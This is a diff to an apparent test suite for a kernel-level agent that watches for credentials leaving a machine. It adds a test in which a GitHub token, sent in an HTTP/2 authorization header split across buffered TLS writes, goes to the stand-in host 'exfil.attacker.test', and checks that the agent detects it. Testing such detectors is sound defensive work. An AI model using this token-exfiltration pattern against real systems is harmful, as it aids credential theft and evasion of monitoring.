@@ -11,8 +11,8 @@ import tempfile
 import threading
 import time
 
-from cwtest import (Agent, Skip, github_token, h2_frame, hpack_literal, kernel_map,
-                    require_root, wait_until)
+from cwtest import (Agent, BufferedWriter, Skip, github_token, h2_frame, hpack_literal,
+                    kernel_map, require_root, wait_until)
 
 EVIL = "exfil.attacker.test"
 
@@ -644,6 +644,43 @@ def test_h2_headers_after_the_last_data_frame_in_one_tls_write():
     agent.assert_no_plaintext(token)
 
 
+def test_h2_frames_followed_across_tls_writes_cut_anywhere():
+    """An h2 client over TLS that writes through a 4 KiB buffer (Go's bufio.Writer): past the
+    payload budget a request's HEADERS frame starts in the middle of one SSL_write and ends in
+    the next; the kernel, following the session's frames from its preface, copies it."""
+    require_root()
+    agent = Agent("--include-loopback")
+    sink = TlsSink()
+    token = github_token()
+    s = None
+    try:
+        s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
+                                     server_hostname=EVIL)
+        w = BufferedWriter(s, 4096)
+        authority = hpack_literal(b":authority", EVIL.encode())
+        w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        w.write(h2_frame(1, 4, 1, authority))
+        for _ in range(60):
+            w.write(h2_frame(0, 0, 1, b"u" * 5000))
+        w.write(h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
+                         hpack_literal(b"authorization", b"token " + token.encode())))
+        w.write(h2_frame(0, 1, 3, b"v" * 3000))
+        w.flush()
+        fp = agent.key.fingerprint(token)
+        hits = agent.wait_for(lambda l: l["event"]["action"] ==
+                              "credential-unexpected-destination" and
+                              l["credential"]["fingerprint"] == fp, timeout=5)
+    finally:
+        if s:
+            s.close()
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["tls"]["library"] == "openssl"
+    assert hits[0]["destination"]["domain"] == EVIL
+    agent.assert_no_plaintext(token)
+
+
 def test_tcp_capture_of_a_tls_connection_stops_after_its_client_hello():
     """A watched TCP connection that starts with a TLS ClientHello carries ciphertext after it:
     the kernel copies the ClientHello (its server name) and marks the connection so that
@@ -667,7 +704,7 @@ def test_tcp_capture_of_a_tls_connection_stops_after_its_client_hello():
     assert len(entry) == 1, entry
     assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
     # the ClientHello, not a single 16 KiB TLS record of the ciphertext
-    assert entry[0]["conn"]["captured"] < 4096, entry
+    assert entry[0]["conn"]["budget"]["captured"] < 4096, entry
 
 
 class ConnectProxy:
@@ -871,7 +908,7 @@ def test_tcp_capture_of_a_tunnel_stops_after_its_client_hello():
     assert len(entry) == 1, entry
     assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
     # the CONNECT request and the ClientHello, not the ciphertext's 64 KiB payload budget
-    assert entry[0]["conn"]["captured"] < 4096, entry
+    assert entry[0]["conn"]["budget"]["captured"] < 4096, entry
 
 
 def test_ended_session_leaves_no_payload_budget_behind():
